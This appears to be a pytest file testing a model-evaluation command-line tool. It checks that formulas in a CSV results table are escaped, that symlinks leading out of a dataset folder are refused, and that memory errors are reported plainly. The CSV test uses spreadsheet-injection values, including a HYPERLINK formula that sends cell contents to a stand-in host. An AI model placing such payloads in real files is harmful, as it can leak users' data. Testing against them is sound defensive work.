"""What the disk, the page and the socket promise, from a shell: a damaged file is found, a secret is not shown, a link leads
nowhere, an odd text takes no time. Each test begins with a command, as a user does."""

import csv
import errno
import io
import shutil
import pytest
from PIL import Image
from tiny import contents, write_set
from carve_nb.runs.store import read_run

STARS = [dict(id=i, question=f'What digit is on the {i} star?', answer='5') for i in ('red', 'blue', 'green')]
SHORT = '--model', 'carve-tiny', '--max-new-tokens', 2


def lines(out):
    return [{k: v for k, v in r.items() if k != 'seconds'} for r in read_run(out).records]


@pytest.mark.case(50)
def test_a_lost_protocol_is_no_empty_folder(tmp_path, shell):
    "Without its protocol the folder of a run is refused by the same command and by a report, and nothing in it is changed"
    write_set(tmp_path / 'D', STARS)
    words = 'eval', tmp_path / 'D', '--methods', 'none', '--out', tmp_path / 'R', *SHORT
    shell(*words)
    (tmp_path / 'R' / 'protocol.json').unlink()
    before = contents(tmp_path / 'R')
    for status, out, err in shell(*words), shell('report', tmp_path / 'R'):
        assert (status, out) == (2, '') and 'holds records.jsonl without protocol.json' in err, err
    assert contents(tmp_path / 'R') == before


@pytest.mark.case(57)
def test_formulas_in_a_table_of_results(tmp_path, shell):
    "A spreadsheet finds texts where a set has formulas; the lines keep them as they are"
    questions = dict(
        zip(('=1+1', '+2', '@SUM(A1)'), ('=HYPERLINK("http://x/?"&A1,"click")', '-2+3 is?', '\t=4'))
    )
    write_set(tmp_path / 'D', [dict(id=i, question=q, answer='-5') for i, q in questions.items()])
    assert shell('eval', tmp_path / 'D', '--methods', 'none', '--out', tmp_path / 'R', *SHORT)[0] == 0
    rows = list(csv.DictReader(io.StringIO((tmp_path / 'R' / 'results.csv').read_text())))
    assert [r['id'] for r in rows] == ["'=1+1", '+2', "'@SUM(A1)"]
    assert {r['truth'] for r in rows} == {'-5'}  # numbers stay
    assert not [v for r in rows for v in r.values() if v[:1] in '=@\t' and v]
    assert rows[0]['question'] == "'" + questions['=1+1']
    assert [l['id'] for l in lines(tmp_path / 'R')] == [*questions]


@pytest.fixture
def linked(tmp_path):
    "A set in which a name is a link to a file that is nobody's business"
    set_ = write_set(tmp_path / 'D', STARS)
    Image.new('RGB', (60, 50), 'red').save(tmp_path / 'secret.png')
    return set_


def test_a_image_that_is_a_link_out_of_its_set(linked, shell, tmp_path):
    "As a tar keeps links: refused before a model is loaded or anything is sent; a link inside the set is a file of it"
    (linked / 'a.png').rename(linked / 'b.png')
    (linked / 'a.png').symlink_to(linked / 'b.png')
    evaluate = lambda out, *more: shell(
        'eval', linked, '--n', 1, '--methods', 'none', '--out', tmp_path / out, *SHORT, *more
    )
    assert evaluate('R')[0] == 0
    (linked / 'a.png').unlink()
    (linked / 'a.png').symlink_to(tmp_path / 'secret.png')
    for more in (), ('--answer-by', 'http://127.0.0.1:9/v1#m'):
        status, _, err = evaluate('S', *more)
        assert status == 2, err
        assert f'{linked}/a.png leads out of the folder of the set' in err, err
        assert 'leave this machine' not in err, err


@pytest.mark.parametrize('named', [False, True])
def test_questions_that_are_a_link_out_of_their_set(linked, shell, tmp_path, named):
    (linked / 'q.jsonl').rename(tmp_path / 'q.jsonl')
    (linked / 'q.jsonl').symlink_to(tmp_path / 'q.jsonl')
    status, _, err = shell(
        'eval', linked / 'q.jsonl' if named else linked, '--methods', 'none', '--out', tmp_path / 'R', *SHORT
    )
    assert status == 2 and 'q.jsonl leads out of the folder of the set' in err, err


@pytest.mark.parametrize('kind', ['snapshot', 'link out', 'blobs out'])
def test_a_snapshot_of_the_hub(tmp_path, shell, kind):
    "Its files are links into its own `blobs`, which are read; a link elsewhere is refused, also by way of `blobs`"
    cache, outside = tmp_path / 'datasets--o--n', write_set(tmp_path / 'elsewhere', STARS)
    snapshot, blobs = cache / 'snapshots' / 'abc', cache / 'blobs'
    cache.mkdir()
    if kind == 'blobs out':
        blobs.symlink_to(outside)
    else:
        shutil.copytree(outside, blobs)
    snapshot.mkdir(parents=True)
    for name in 'q.jsonl', 'a.png':
        (snapshot / name).symlink_to((outside if kind == 'link out' else blobs) / name)
    status, _, err = shell('eval', snapshot, '--n', 1, '--methods', 'none', '--out', tmp_path / 'R', *SHORT)
    if kind == 'snapshot':
        assert status == 0, err
    else:
        assert status == 2 and 'leads out of the folder of the set' in err, err


@pytest.mark.case(44)
@pytest.mark.parametrize(
    'error',
    [
        RuntimeError("DefaultCPUAllocator: can't allocate memory"),
        OSError(errno.ENOMEM, 'Cannot allocate memory'),
    ],
)
def test_too_little_memory_for_the_weights(shell, tmp_path, monkeypatch, error):
    "Memory that runs out while weights are read is said as such, with what helps, and not as weights that cannot be loaded"
    from carve_nb.models import loading

    def fail(*args, **kw):
        raise error

    monkeypatch.setattr(loading.AutoModelForImageTextToText, 'from_pretrained', fail)
    Image.new('RGB', (60, 50), 'red').save(tmp_path / 'a.png')
    status, out, err = shell('ask', tmp_path / 'a.png', 'What is it?')
    assert (status, out) == (1, ''), err
    assert 'memory ran out' in err, err
    assert 'bfloat16' in err, err
    assert 'safetensors' not in err, err
